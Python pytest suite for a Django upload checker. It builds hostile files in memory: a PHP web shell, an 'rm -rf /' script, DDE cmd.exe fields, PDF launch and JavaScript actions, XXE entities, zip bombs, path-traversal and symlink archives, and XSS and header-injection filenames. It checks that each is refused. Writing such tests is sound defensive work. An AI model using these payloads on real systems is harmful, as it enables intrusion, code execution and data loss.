"""Hostile and honest uploads, made here: nothing hostile lies in the repository."""

import io
import os
import struct
import tracemalloc
import zipfile
import zlib
from datetime import UTC, datetime, timedelta

import docx
import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from openpyxl.chart import BarChart, Reference
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript

from core import files
from core.files import names, office, pdf, pictures
from core.models import Holiday, StoredFile
from core.words import Refused

AT = datetime(2026, 11, 23, 8, 0, tzinfo=UTC)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PHP = b"<?php system($_GET['c']); ?>"
_made: dict[str, bytes] = {}


@pytest.fixture(autouse=True)
def _own_storage(settings, tmp_path):
    settings.STORAGES = settings.STORAGES | {
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path), "base_url": None},
        }
    }


def upload(content: bytes, name: str = "tep.bin", said: str = "image/png") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, said)


# -- Makers -------------------------------------------------------------------
def word(text: str = "Kế hoạch kinh doanh") -> bytes:
    if text not in _made:
        document = docx.Document()
        document.add_heading(text)
        document.add_paragraph("Phơi cá cơm bằng nắng. " * 20)
        document.add_picture(io.BytesIO(picture("PNG")))
        target = io.BytesIO()
        document.save(target)
        _made[text] = target.getvalue()
    return _made[text]


def excel(rows: int = 20, *, chart: bool = False) -> bytes:
    book = openpyxl.Workbook()
    for number in range(rows):
        book.active.append([f"Dòng {number}", number, number * 1000])
    if chart:
        drawn = BarChart()
        drawn.add_data(Reference(book.active, min_col=2, min_row=1, max_row=5))
        book.active.add_chart(drawn, "E2")
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def package(parts: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def unpack(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_parts(base: bytes, **parts: bytes) -> bytes:
    return package(unpack(base) | parts)


def plus(name: str, content: bytes, base: bytes | None = None) -> bytes:
    return package(unpack(base or word()) | {name: content})


def with_relation(kind: str, target: str, *, outside: bool = True, base: bytes | None = None):
    parts = unpack(base or word())
    place = next(n for n in parts if n.endswith(("document.xml.rels", "workbook.xml.rels")))
    mode = ' TargetMode="External"' if outside else ""
    full = kind if "://" in kind else f"{RELS}/{kind}"
    entry = f'<Relationship Id="rBad" Type="{full}" Target="{target}"{mode}/></Relationships>'
    parts[place] = parts[place].replace(b"</Relationships>", entry.encode())
    return package(parts)


def with_type(content_type: str, part: str = "/word/x.bin") -> bytes:
    parts = unpack(word())
    entry = f'<Override PartName="{part}" ContentType="{content_type}"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", entry.encode())
    return package(parts)


def slides(extra: dict[str, bytes] | None = None) -> bytes:
    """The smallest package that says it is a presentation."""
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    return package(
        {
            "[Content_Types].xml": f'<Types xmlns="{types}"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/ppt/presentation.xml" ContentType="{main}"/></Types>',
            "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships"><Relationship Id="r1" Type="{RELS}/officeDocument" '
            'Target="ppt/presentation.xml"/></Relationships>',
            "ppt/presentation.xml": "<p:presentation xmlns:p='p'/>",
            **(extra or {}),
        }
    )


def picture(form: str, size=(60, 40), mode: str = "RGB", **options) -> bytes:
    target = io.BytesIO()
    Image.new(mode, size, 90 if mode in {"L", "P", "I;16"} else None or 0).save(
        target, form, **options
    )
    return target.getvalue()


def paper(**extra: str) -> bytes:
    """A PDF by hand: ``catalog`` is put into the catalogue, the rest are whole objects."""
    catalog = extra.pop("catalog", "")
    page = extra.pop("page", "")
    bodies = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]{page}>>",
        *extra.values(),
    ]
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(bodies, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    size = len(bodies) + 1
    end = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<</Size {size}/Root 1 0 R>>\n"
    return out + end.encode() + f"startxref\n{len(out)}\n%%EOF\n".encode()


def packed_paper(hidden: str) -> bytes:
    """A PDF whose object 4 lies compressed in an object stream: no raw search can see it."""
    inner = f"4 0 {hidden}".encode()
    packed = zlib.compress(inner)
    out, places = b"%PDF-1.7\n", {}
    bodies = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
        % (len(packed), packed),
    }
    for number, body in bodies.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    places[6] = len(out)
    rows = [struct.pack(">BIB", 0, 0, 255)]
    for number in range(1, 7):
        row = (2, 5, 0) if number == 4 else (1, places[number], 0)
        rows.append(struct.pack(">BIB", *row))
    table = b"".join(rows)
    out += (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream\n"
        b"endobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, places[6])
    )
    return out


def written(change=None, pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(200, 200)
    if change:
        change(writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def bomb(member: str = "word/media/x.bmp", megabytes: int = 60) -> bytes:
    return plus(member, b"\0" * megabytes * 2**20)


def lying_zip() -> bytes:
    """A member whose directory entry promises far fewer bytes than it unpacks to."""
    content = plus("word/media/x.bin", b"A" * 100_000)
    return content.replace(struct.pack("<I", 100_000), struct.pack("<I", 1000))


def overlapping_zip() -> bytes:
    """Two directory entries over one body, as in the zip bombs that overlap."""
    content = bytearray(word())
    first = content.rindex(b"PK\x01\x02")
    second = content.rindex(b"PK\x01\x02", 0, first)
    content[first + 42 : first + 46] = content[second + 42 : second + 46]
    return bytes(content)


def encrypted_zip() -> bytes:
    content = bytearray(word())
    place = -1
    while (place := content.find(b"PK\x01\x02", place + 1)) >= 0:
        content[place + 8] |= 1
    return bytes(content)


def renamed_local() -> bytes:
    """The local header says another name than the directory: two readers see two files."""
    content = plus("word/media/aaaa.bin", b"x" * 50)
    return content.replace(b"word/media/aaaa.bin", b"word/media/evil.bin", 1)


def hidden_between() -> bytes:
    """Bytes between the last member and the directory, offsets put right."""
    content = word()
    start = struct.unpack("<I", content[-6:-2])[0]
    moved = content[:start] + PHP + content[start:]
    return moved[:-6] + struct.pack("<I", start + len(PHP)) + moved[-2:]


def symlink() -> bytes:
    target = io.BytesIO(word())
    with zipfile.ZipFile(target, "a") as archive:
        entry = zipfile.ZipInfo("word/media/link.png")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return target.getvalue()


def twice() -> bytes:
    target = io.BytesIO(word())
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("WORD/document.xml", "<evil/>")
    return target.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A PNG that promises many pixels and holds none."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def many_scans() -> bytes:
    content = picture("JPEG", progressive=True)
    place = content.rindex(b"\xff\xda")
    return content[:-2] + content[place:-2] * 300 + b"\xff\xd9"


JS = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
HOSTILE = {
    # not what is taken
    "empty": lambda: b"",
    "one byte": lambda: b"%",
    "text": "Chào bạn".encode,
    "html": lambda: b"<!doctype html><script>alert(1)</script>",
    "svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "svg with xml head": lambda: b"<?xml version='1.0'?><svg onload='alert(1)'/>",
    "php": lambda: PHP,
    "shell script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "windows program": lambda: b"MZ\x90\0" + b"\0" * 500,
    "elf program": lambda: b"\x7fELF" + b"\0" * 500,
    "java class": lambda: b"\xca\xfe\xba\xbe" + b"\0" * 500,
    "gif with script": lambda: b"GIF89a/*" + b"*/=1;alert(1)//",
    "bmp": lambda: picture("BMP"),
    "tiff": lambda: picture("TIFF"),
    "ico": lambda: picture("ICO"),
    "postscript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n",
    "rtf": lambda: b"{\\rtf1\\object}",
    "rar": lambda: b"Rar!\x1a\x07\x00" + b"\0" * 100,
    "7z": lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
    "gzip": lambda: b"\x1f\x8b\x08" + b"\0" * 100,
    "heic": lambda: b"\0\0\0\x18ftypheic" + b"\0" * 100,
    "mp4": lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 100,
    "old office": lambda: OLE,
    # zip and Office
    "plain zip": lambda: package({"a.txt": "x"}),
    "empty zip": lambda: package({}),
    "jar": lambda: package({"META-INF/MANIFEST.MF": "x", "A.class": "y"}),
    "apk": lambda: package({"AndroidManifest.xml": "x"}),
    "opendocument": lambda: package({"mimetype": "application/vnd.oasis.opendocument.text"}),
    "types only": lambda: package({"[Content_Types].xml": "<Types/>"}),
    "types not xml": lambda: plus("[Content_Types].xml", b"nonsense"),
    "no main part": lambda: package(
        {k: v for k, v in unpack(word()).items() if k != "word/document.xml"}
    ),
    "docx cut short": lambda: word()[:-500],
    "docx half": lambda: word()[: len(word()) // 2],
    "docx wrong sum": lambda: word().replace(
        struct.pack("<I", zlib.crc32(unpack(word())["word/document.xml"])), b"\1\2\3\4"
    ),
    "docm by type": lambda: with_parts(
        word(),
        **{
            "[Content_Types].xml": unpack(word())["[Content_Types].xml"].replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main",
                b"application/vnd.ms-word.document.macroEnabled.main",
            )
        },
    ),
    "dotx by type": lambda: with_parts(
        word(),
        **{
            "[Content_Types].xml": unpack(word())["[Content_Types].xml"].replace(
                b"wordprocessingml.document.main", b"wordprocessingml.template.main"
            )
        },
    ),
    "vba project": lambda: plus("word/vbaProject.bin", OLE),
    "vba by another name": lambda: plus("word/media/image9.png", OLE),
    "vba by type": lambda: with_type("application/vnd.ms-office.vbaProject"),
    "vba by relation": lambda: with_relation(
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin", outside=False
    ),
    "excel 4 macro sheet": lambda: with_relation(
        "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        "macrosheets/sheet1.xml",
        outside=False,
        base=excel(),
    ),
    "activex": lambda: plus("word/activeX/activeX1.xml", b"<x/>"),
    "activex by relation": lambda: with_relation("control", "media/x.xml", outside=False),
    "ole object": lambda: plus("word/embeddings/oleObject1.bin", OLE),
    "ole object outside": lambda: with_relation("oleObject", "http://evil.example/x.doc"),
    "outside template": lambda: with_relation("attachedTemplate", "https://evil.example/t.dotm"),
    "outside template on a share": lambda: with_relation("attachedTemplate", r"\\evil\t.dotm"),
    "outside picture on a share": lambda: with_relation("image", "file://evil/x.png"),
    "outside frame": lambda: with_relation("frame", "http://evil.example/x.html"),
    "html chunk": lambda: with_relation("aFChunk", "x.html", outside=False),
    "mail merge": lambda: with_relation("mailMergeSource", "file:///c:/x.mdb"),
    "script link": lambda: with_relation("hyperlink", "javascript:alert(1)"),
    "help link": lambda: with_relation("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "dde field": lambda: with_parts(
        word(), **{"word/document.xml": b"<w:p xmlns:w='w'>DDEAUTO c:\\\\cmd.exe</w:p>"}
    ),
    "dde link": lambda: plus(
        "xl/externalLinks/externalLink1.xml", b"<x:ddeLink ddeService='cmd'/>", excel()
    ),
    "dde in utf-16": lambda: with_parts(
        word(), **{"word/document.xml": "<p>DDEAUTO cmd</p>".encode("utf-16")}
    ),
    "run a program": lambda: slides({"ppt/slides/s.xml": b"<a action='ppaction://program'/>"}),
    "entities": lambda: with_parts(
        word(), **{"word/document.xml": b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]><a>&b;</a>"}
    ),
    "entities in types": lambda: plus(
        "[Content_Types].xml", b"<!DOCTYPE a [<!ENTITY b 'x'>]><Types>&b;</Types>"
    ),
    "program inside": lambda: plus("word/media/run.exe", b"MZ" + b"\0" * 99),
    "program in disguise": lambda: plus("word/media/image3.jpeg", b"MZ" + b"\0" * 99),
    "html inside": lambda: plus("word/page.html", b"<script>"),
    "script in svg inside": lambda: plus("word/media/a.svg", b"<svg><script>x</script></svg>"),
    "zip in a zip": lambda: plus("word/media/a.bin", package({"x": "y"})),
    "macro workbook embedded": lambda: plus(
        "word/embeddings/Book1.xlsx", plus("xl/vbaProject.bin", OLE, excel())
    ),
    "word as workbook embedded": lambda: plus("word/embeddings/Book1.xlsx", word()),
    "workbook in workbook in document": lambda: plus(
        "word/embeddings/B.xlsx", plus("xl/embeddings/B.xlsx", excel(), excel())
    ),
    "climbs up": lambda: plus("../../etc/cron.d/x", b"x"),
    "climbs up inside": lambda: plus("word/../../x", b"x"),
    "absolute": lambda: plus("/etc/passwd", b"x"),
    "windows drive": lambda: plus("C:/windows/x", b"x"),
    "backslashes": lambda: plus("..\\..\\x", b"x"),
    "symbolic link": symlink,
    "two of one name": twice,
    "encrypted zip": encrypted_zip,
    "bomb by ratio": bomb,
    "bomb in the main part": lambda: bomb("word/document.xml"),
    "bomb by total": lambda: package(
        unpack(word())
        | {f"word/media/{n}.bin": os.urandom(2**17) + b"\0" * 15 * 2**20 for n in range(15)}
    ),
    "too many members": lambda: package(
        unpack(word()) | {f"word/media/{n}": b"" for n in range(office.MOST_MEMBERS)},
        zipfile.ZIP_STORED,
    ),
    "lying sizes": lying_zip,
    "overlapping members": overlapping_zip,
    "two names for one member": renamed_local,
    "bytes hidden between": hidden_between,
    "php before a docx": lambda: PHP + word(),
    "program before a docx": lambda: b"MZ" + b"\0" * 100 + word(),
    "php after a docx": lambda: word() + PHP,
    "zip comment": lambda: word()[:-2] + struct.pack("<H", len(PHP)) + PHP,
    "two zips": lambda: package({"evil": "x"}) + word(),
    # PDF
    "pdf head only": lambda: b"%PDF-1.7\n",
    "pdf of nothing": lambda: b"%PDF-1.7\n%%EOF\n",
    "pdf cut short": lambda: written()[:-60],
    "pdf of noise": lambda: b"%PDF-1.7\n" + os.urandom(5000) + b"\n%%EOF\n",
    "pdf without pages": lambda: paper().replace(b"[3 0 R]/Count 1", b"[     ]/Count 0"),
    "pdf script on opening": lambda: written(lambda w: w.add_open_action(JavaScript("x"))),
    "pdf open action": lambda: paper(catalog=f"/OpenAction{JS}"),
    "pdf page action": lambda: paper(page=f"/AA<</O {JS}>>"),
    "pdf script by another spelling": lambda: paper(
        catalog="/OpenAction<</S/J#61vaScript/J#53(x)>>"
    ),
    "pdf packed script": lambda: packed_paper(JS),
    "pdf packed launch": lambda: packed_paper("<</S/Launch/F(cmd.exe)>>"),
    "pdf launch": lambda: paper(catalog="/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "pdf attachment": lambda: written(lambda w: w.add_attachment("x.exe", b"MZ")),
    "pdf embedded file": lambda: paper(catalog="/Names<</EmbeddedFiles<</Names[]>>>>"),
    "pdf attachment note": lambda: paper(page="/Annots[<</Subtype/FileAttachment>>]"),
    "pdf film": lambda: paper(page="/Annots[<</Subtype/RichMedia>>]"),
    "pdf xfa": lambda: paper(catalog="/AcroForm<</XFA[]>>"),
    "pdf import data": lambda: paper(catalog="/OpenAction<</S/ImportData/F(x)>>"),
    "pdf to an embedded one": lambda: paper(catalog="/OpenAction<</S/GoToE>>"),
    "pdf script that nothing names": lambda: paper().replace(
        b"xref\n0", f"9 0 obj\n{JS}\nendobj\nxref\n0".encode()
    ),
    "pdf with password": lambda: written(lambda w: w.encrypt("x", algorithm="RC4-128")),
    "pdf with owner password": lambda: written(
        lambda w: w.encrypt("", "owner", algorithm="RC4-128")
    ),
    "pdf after html": lambda: b"<html>" + written(),
    "pdf after a line": lambda: b"\n" + written(),
    "pdf with a tail": lambda: written() + b"<script>alert(1)</script>",
    "pdf and php": lambda: paper(x="(" + PHP.decode() + ")"),
    "pdf and zip": lambda: written() + package({"x": "y"}),
    "pdf and zip with a new end": lambda: written() + package({"x": "y"}) + b"%%EOF",
    "pdf loop of pages": lambda: paper().replace(b"[3 0 R]/Count 1", b"[2 0 R]/Count 1"),
    "pdf nested deep": lambda: paper(x="[" * 50_000),
    # pictures
    "png head only": lambda: b"\x89PNG\r\n\x1a\n",
    "png cut short": lambda: picture("PNG", (300, 300))[:-40],
    "jpeg head only": lambda: b"\xff\xd8\xff\xe0" + b"\0" * 50,
    "jpeg cut short": lambda: picture("JPEG", (600, 600))[:700],
    "php in a jpeg head": lambda: b"\xff\xd8\xff" + PHP,
    "webp head only": lambda: b"RIFF\x10\0\0\0WEBPVP8 ",
    "png of 41 megapixels": lambda: png_of(8200, 5001),
    "png of 10 gigapixels": lambda: png_of(100_000, 100_000),
    "png of no pixels": lambda: png_of(0, 10),
    "jpeg of many scans": many_scans,
    "png that is a jpeg": lambda: b"\x89PNG\r\n\x1a\n" + picture("JPEG"),
}


@pytest.mark.parametrize("maker", HOSTILE.values(), ids=HOSTILE)
def test_hostile_upload_is_refused_in_one_vietnamese_sentence(maker):
    with pytest.raises(Refused) as refusal:
        files.check(upload(maker(), "ho-so.docx"))
    sentence = str(refusal.value)
    assert sentence.endswith(".")
    assert len(sentence) < 130
    assert any(ord(char) > 127 for char in sentence)


REASONS = {
    "old office": "kiểu cũ",
    "heic": "HEIC",
    "vba project": "macro",
    "encrypted zip": "mật khẩu",
    "bomb by ratio": "quá lớn",
    "bomb by total": "quá lớn",
    "lying sizes": "quá lớn",
    "outside template": "nơi khác",
    "pdf packed script": "mã lệnh",
    "pdf script on opening": "mã lệnh",
    "pdf packed launch": "chương trình",
    "pdf attachment": "tệp khác",
    "pdf with password": "mật khẩu",
    "pdf with owner password": "mật khẩu",
    "pdf with a tail": "dữ liệu lạ",
    "pdf xfa": "mẫu điền động",
    "png of 10 gigapixels": "40 triệu",
    "png of 41 megapixels": "40 triệu",
    "empty": "rỗng",
}


@pytest.mark.parametrize("name", REASONS)
def test_refusal_says_why(name):
    with pytest.raises(Refused, match=REASONS[name]):
        files.check(upload(HOSTILE[name]()))


def large_word() -> bytes:
    return package(unpack(word()) | {"word/media/big.jpg": os.urandom(6 * 2**20)})


def photo() -> bytes:
    """As a phone makes it: turned, with a place in its EXIF."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "MAY ANH CUA AN"
    exif.get_ifd(0x8825)[2] = (14.0, 48.0, 30.0)
    return picture("JPEG", (400, 300), exif=exif)


HONEST = {
    "word": (word, "docx"),
    "word with a link": (lambda: with_relation("hyperlink", "https://quangngai.gov.vn"), "docx"),
    "word with a mail link": (lambda: with_relation("hyperlink", "mailto:an@example.vn"), "docx"),
    "word with a web picture": (lambda: with_relation("image", "https://a.vn/x.png"), "docx"),
    "word of 6 MB": (large_word, "docx"),
    "word with a chart's workbook": (
        lambda: plus("word/embeddings/Microsoft_Excel_Sheet1.xlsx", excel()),
        "docx",
    ),
    "word with a drawn icon": (lambda: plus("word/media/i.svg", b"<svg><path/></svg>"), "docx"),
    "word that is stored only": (lambda: package(unpack(word()), zipfile.ZIP_STORED), "docx"),
    "excel": (excel, "xlsx"),
    "excel of many rows": (lambda: excel(20_000), "xlsx"),
    "excel with a chart": (lambda: excel(chart=True), "xlsx"),
    "excel with printer settings": (
        lambda: plus("xl/printerSettings/printerSettings1.bin", b"\1\0" * 300, excel()),
        "xlsx",
    ),
    "slides": (slides, "pptx"),
    "pdf": (written, "pdf"),
    "pdf by hand": (paper, "pdf"),
    "pdf of 300 pages": (lambda: written(pages=300), "pdf"),
    "pdf with a link": (
        lambda: paper(page="/Annots[<</Subtype/Link/A<</S/URI/URI(https://a.vn)>>>>]"),
        "pdf",
    ),
    "pdf that opens on a page": (lambda: paper(catalog="/OpenAction[3 0 R/Fit]"), "pdf"),
    "pdf with packed objects": (lambda: packed_paper("<</S/GoTo/D[3 0 R/Fit]>>"), "pdf"),
    "pdf with a blank end": (lambda: written() + b"\r\n\r\n", "pdf"),
    "pdf saved twice": (
        lambda: written() + paper()[: paper().index(b"startxref")] + b"startxref\n0\n%%EOF",
        "pdf",
    ),
    "jpeg": (lambda: picture("JPEG"), "jpg"),
    "jpeg from a phone": (photo, "jpg"),
    "jpeg of printers": (lambda: picture("JPEG", mode="CMYK"), "jpg"),
    "jpeg grey and progressive": (lambda: picture("JPEG", mode="L", progressive=True), "jpg"),
    "png": (lambda: picture("PNG"), "png"),
    "png with glass": (lambda: picture("PNG", mode="RGBA"), "png"),
    "png with a palette": (lambda: picture("PNG", mode="P"), "png"),
    "png of 16 bits": (lambda: picture("PNG", mode="I;16"), "png"),
    "webp": (lambda: picture("WEBP"), "webp"),
    "webp with glass": (lambda: picture("WEBP", mode="RGBA", lossless=True), "webp"),
}


@pytest.mark.parametrize(("maker", "kind"), HONEST.values(), ids=HONEST)
def test_honest_upload_is_taken_for_what_it_is(maker, kind):
    content = maker()
    checked = files.check(upload(content, "Hồ sơ của An.exe", "text/html"))
    assert (checked.kind, checked.size) == (kind, len(content))
    assert checked.name == f"Hồ sơ của An-exe.{kind}"


def test_two_pictures_in_one_jpeg_are_taken_as_a_jpeg():
    target = io.BytesIO()
    first, second = Image.new("RGB", (80, 60), "red"), Image.new("RGB", (40, 30))
    first.save(target, "MPO", save_all=True, append_images=[second])
    assert files.check(upload(target.getvalue())).kind == "jpg"


def test_only_the_wanted_kinds_are_taken():
    with pytest.raises(Refused, match=r"Chọn tệp JPG, PNG, WebP\."):
        files.check(upload(written()), files.PICTURES)
    with pytest.raises(Refused, match=r"PDF, Word"):
        files.check(upload(picture("PNG")), files.DOCUMENTS)


def test_too_many_bytes_are_refused(settings):
    settings.UPLOAD_LIMIT = 1024 * 1024
    with pytest.raises(Refused, match="tối đa 1 MB"):
        files.check(upload(b"%PDF-1.7" + b"\0" * 2**20))


# -- Names --------------------------------------------------------------------
@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("Kế hoạch kinh doanh.docx", "Kế hoạch kinh doanh.pdf"),
        ("Ke\u0302\u0301 hoa\u0323ch.pdf", "Kế hoạch.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("..\\..\\windows\\win.ini", "win-ini.pdf"),
        ("evil.php.jpg", "evil-php.pdf"),
        ("evil.jpg.php", "evil-jpg-php.pdf"),
        ("a\0.php\0.pdf", "a-php.pdf"),
        ("anh\u202egpj.exe", "anhgpj-exe.pdf"),
        ("con", "tep-con.pdf"),
        ("CON.pdf", "tep-CON.pdf"),
        ("lpt1.txt.pdf", "lpt1-txt.pdf"),
        ("....", "tep.pdf"),
        ("", "tep.pdf"),
        (".htaccess", "htaccess.pdf"),
        (".pdf", "tep.pdf"),
        ("\u200b\u200b.pdf", "tep.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie-x-1.pdf"),
        ('"><img src=x onerror=alert(1)>.pdf', "img src-x onerror-alert(1).pdf"),
        ("x．php.pdf", "x-php.pdf"),
        ("tệp   có  cách .pdf", "tệp có cách.pdf"),
        ("a;b|c$(d)`e`.pdf", "a-b-c-(d)-e.pdf"),
        ("💰.pdf", "tep.pdf"),
    ],
)
def test_name_is_rebuilt(given, kept):
    assert names.rebuild(given, "pdf") == kept


def test_long_name_is_cut_and_still_ends_well():
    name = names.rebuild("ế" * 300 + ".pdf", "pdf")
    assert len(name) == names.LONGEST_STEM + len(".pdf")
    assert name.endswith("ế.pdf")


# -- Keeping ------------------------------------------------------------------
@pytest.fixture
def an(db):
    return get_user_model().objects.create_user("an@example.vn", full_name="An")


def test_document_is_kept_as_it_came(an, tmp_path):
    content = word()
    stored = files.store(upload(content, "../../Kế hoạch.docx"), by=an, at=AT)
    stored.refresh_from_db()
    assert stored.name == "Kế hoạch.docx"
    assert stored.content_type_name.endswith("wordprocessingml.document")
    assert (stored.size, stored.uploaded_by, stored.uploaded_at) == (len(content), an, AT)
    assert stored.file.name.endswith(f"/{stored.key}.docx")
    with stored.file.open("rb") as kept:
        assert kept.read() == content
    assert (tmp_path / stored.file.name).stat().st_mode & 0o777 == 0o600


def test_visitor_may_keep_a_file(db):
    assert files.store(upload(written()), by=None, at=AT).uploaded_by is None


def test_refused_upload_leaves_nothing(db, tmp_path):
    with pytest.raises(Refused):
        files.store(upload(PHP, "a.png"), by=None, at=AT)
    assert not StoredFile.objects.exists()
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


def kept_picture(content: bytes, name: str = "anh.jpg") -> tuple[StoredFile, Image.Image, bytes]:
    stored = files.store(upload(content, name), by=None, at=AT)
    with stored.file.open("rb") as kept:
        data = kept.read()
    return stored, Image.open(io.BytesIO(data)), data


def test_photo_is_turned_and_loses_its_place(db):
    stored, seen, data = kept_picture(photo())
    assert seen.size == (300, 400)
    assert not seen.getexif()
    assert b"MAY ANH CUA AN" not in data
    assert stored.size == len(data)


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_large_picture_is_scaled_down(db, form):
    _stored, seen, _data = kept_picture(picture(form, (5200, 2600)))
    assert seen.size == (2560, 1280)
    assert seen.format == form


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_what_is_behind_a_picture_falls_away(db, form):
    stored, _seen, data = kept_picture(picture(form) + PHP + package({"x": "y"}), "evil.php.jpg")
    assert b"<?php" not in data
    assert b"PK\x03\x04" not in data
    assert stored.name.startswith("evil-php.")


def test_words_inside_a_picture_fall_away(db):
    _stored, _seen, data = kept_picture(picture("JPEG", comment=PHP))
    assert b"<?php" not in data


def test_glass_stays_glass(db):
    _stored, seen, _data = kept_picture(picture("PNG", mode="RGBA"))
    assert seen.mode == "RGBA"


def test_large_upload_is_read_in_pieces(db):
    content = package(unpack(word()) | {"word/media/big.jpg": os.urandom(15 * 2**20)})
    large = TemporaryUploadedFile("lon.docx", "x", len(content), None)
    large.write(content)
    large.seek(0)
    del content
    tracemalloc.start()
    stored = files.store(large, by=None, at=AT)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert stored.size > 15 * 2**20
    assert peak < 6 * 2**20


def test_large_pdf_is_checked_where_it_lies(db):
    content = paper(x=f"<</Length {10 * 2**20}>>stream\n" + "A" * 10 * 2**20 + "\nendstream")
    large = TemporaryUploadedFile("lon.pdf", "x", len(content), None)
    large.write(content)
    stored = files.store(large, by=None, at=AT)
    with stored.file.open("rb") as kept:
        assert kept.read() == content


def test_walk_that_dies_or_takes_too_long_refuses(monkeypatch, tmp_path):
    looping = tmp_path / "walk.py"
    looping.write_text("while True: pass")
    monkeypatch.setattr(pdf, "WALK", looping)
    monkeypatch.setattr(pdf, "PATIENCE", 0.5)
    with pytest.raises(Refused, match="quá phức tạp"):
        files.check(upload(written()))
    looping.write_text("raise SystemExit(3)")
    monkeypatch.setattr(pdf, "PATIENCE", 20)
    with pytest.raises(Refused, match="quá phức tạp"):
        files.check(upload(written()))


def test_tables_that_loop_end_the_walk():
    plain = paper()
    start = plain.rindex(b"xref\n0")
    looping = plain.replace(b"/Root", b"/Prev %d/Root" % start)
    assert files.check(upload(looping)).kind == "pdf"


def test_every_kept_pdf_opens(db):
    stored = files.store(upload(written(pages=3)), by=None, at=AT)
    with stored.file.open("rb") as kept:
        assert len(PdfReader(kept).pages) == 3


# -- Attaching, sweeping, serving ---------------------------------------------
def test_file_is_attached_once(db):
    stored = files.store(upload(written()), by=None, at=AT)
    first, second = (Holiday.objects.create(day=AT.date() + timedelta(d), name="x") for d in (1, 2))
    files.attach(stored, first)
    files.attach(stored, first)
    stored.refresh_from_db()
    assert stored.subject == first
    with pytest.raises(Refused, match="hồ sơ khác"):
        files.attach(stored, second)
    stored.refresh_from_db()
    assert stored.subject == first


def test_sweep_takes_only_old_files_that_nobody_uses(db, django_capture_on_commit_callbacks):
    old, new, used = (
        files.store(upload(written()), by=None, at=at)
        for at in (AT - timedelta(days=3), AT, AT - timedelta(days=3))
    )
    files.attach(used, Holiday.objects.create(day=AT.date(), name="x"))
    with django_capture_on_commit_callbacks(execute=True):
        assert files.sweep_unattached(AT - timedelta(days=2)) == 1
    assert set(StoredFile.objects.all()) == {new, used}
    assert not old.file.storage.exists(old.file.name)
    assert new.file.storage.exists(new.file.name)
    assert used.file.storage.exists(used.file.name)


def test_sweep_asks_every_model_that_points_at_files():
